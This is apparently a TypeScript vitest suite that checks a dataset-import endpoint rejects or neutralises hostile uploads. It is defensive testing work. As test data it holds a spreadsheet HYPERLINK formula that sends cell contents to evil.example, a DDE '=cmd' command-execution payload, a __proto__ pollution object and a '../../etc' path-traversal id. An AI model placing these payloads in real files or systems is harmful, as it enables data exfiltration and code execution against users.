import { beforeAll, describe, expect, it } from 'vitest';
import { testApp, type TestApp } from '../../test/helpers.ts';
import { testMetrics } from '../../test/evaluation-fixtures.ts';

describe('datasets: hostile imports', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await testApp({ plugins: [testMetrics], env: { AEH_MAX_BODY_BYTES: '200000' } });
  });
  const post = async (raw: BodyInit, type = 'text/csv') => {
    const response = await t.request('POST', '/api/v1/datasets/import', { raw, headers: { 'content-type': type } });
    return { status: response.status, body: await response.json() };
  };

  it('refuses a file over AEH_MAX_BODY_BYTES with 413, also when streamed without a length', async () => {
    const huge = `input,expected\n${'a,b\n'.repeat(60_000)}`;
    expect((await post(huge)).status).toBe(413);
    const stream = new ReadableStream<Uint8Array>({ start(controller) { for (let i = 0; i < 30; i++) controller.enqueue(new TextEncoder().encode('x'.repeat(10_000))); controller.close(); } });
    const response = await t.app.request('/api/v1/datasets/import', { method: 'POST', body: stream, headers: { 'content-type': 'text/csv', 'x-api-key': 'a'.repeat(64) }, duplex: 'half' } as RequestInit);
    expect(response.status).toBe(413);
  });

  it('refuses more than 10,000 rows', async () => {
    const many = `input,expected\n${'a,b\n'.repeat(10_001)}`;
    const { status, body } = await post(many);
    expect(status).toBe(400);
    expect(body.errors[0].path).toBe('/rows');
  });

  it('keeps formula cells verbatim as text, never evaluated, and warns about them', async () => {
    const csv = 'input,expected,metrics\n"=HYPERLINK(""http://evil.example/?""&A1,""click"")",@SUM(1+1),task_success\n+1+1,-2,task_success';
    const { status, body } = await post(csv);
    expect(status).toBe(200);
    expect(body.scenario.tasks[0].input).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(body.scenario.tasks[0].expected).toEqual({ contains: '@SUM(1+1)' });
    expect(body.scenario.tasks[1].input).toBe('+1+1');
    expect(body.warnings.map((warning: any) => warning.path)).toEqual(['/rows/1/input', '/rows/1/expected', '/rows/2/input', '/rows/2/expected']);
  });

  it('refuses a formula posing as a metric', async () => {
    const { status, body } = await post('input,expected,metrics\nhi,x,"=cmd|\' /C calc\'!A0"');
    expect(status).toBe(400);
    expect(body.errors[0].path).toBe('/rows/1/metrics/0');
  });

  it('refuses bad UTF-8 naming the line', async () => {
    const bytes = new Uint8Array([...new TextEncoder().encode('input,expected\nok,x\n'), 0x66, 0xc3, 0x28, 0x2c, 0x78, 0x0a]);
    const { status, body } = await post(bytes);
    expect(status).toBe(400);
    expect(body.errors[0].path).toBe('/lines/3');
  });

  it('names ragged rows, and reads a byte order mark and CRLF line ends', async () => {
    const { status, body } = await post('input,expected\nok,x\ntoo,many,cells\nshort\nfine,y');
    expect(status).toBe(400);
    expect(body.errors.map((error: any) => [error.path, error.message])).toEqual([['/rows/2', 'has 3 cells; the header has 2'], ['/rows/3', 'has 1 cells; the header has 2']]);
    const bom = await post('\uFEFFinput,expected\r\nok,x\r\n');
    expect(bom.status).toBe(200);
    expect(bom.body.scenario.tasks[0]).toMatchObject({ input: 'ok', expected: { contains: 'x' } });
  });

  it('refuses malformed CSV, a duplicate header, an empty file and the wrong content type without a 500', async () => {
    expect((await post('input,expected\n"unterminated,x\n')).status).toBe(400);
    expect((await post('input,input\na,b')).body.errors[0].path).toBe('/header');
    expect((await post('')).status).toBe(400);
    expect((await post('input\nx', 'text/plain')).status).toBe(415);
    const jsonl = await post('{"input": "a", "expected": "b"}\nnot json\n[1,2]\n', 'application/x-ndjson');
    expect(jsonl.body.errors.map((error: any) => error.path)).toEqual(['/rows/2', '/rows/3']);
    const proto = await post('{"input": "a", "expected": "b", "__proto__": {"polluted": true}}', 'application/x-ndjson');
    expect(proto.status).toBe(200);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('refuses a cell over 100,000 characters and a task id that could be a path', async () => {
    const json = (data: string) => t.json('POST', '/api/v1/datasets/import', { body: { format: 'jsonl', data } });
    expect((await json(JSON.stringify({ input: 'x'.repeat(100_001), expected: 'y' }))).body.errors[0].path).toBe('/rows/1/input');
    expect((await json(JSON.stringify({ id: '../../etc', input: 'x', expected: 'y' }))).body.errors[0].path).toBe('/rows/1/id');
  });
});
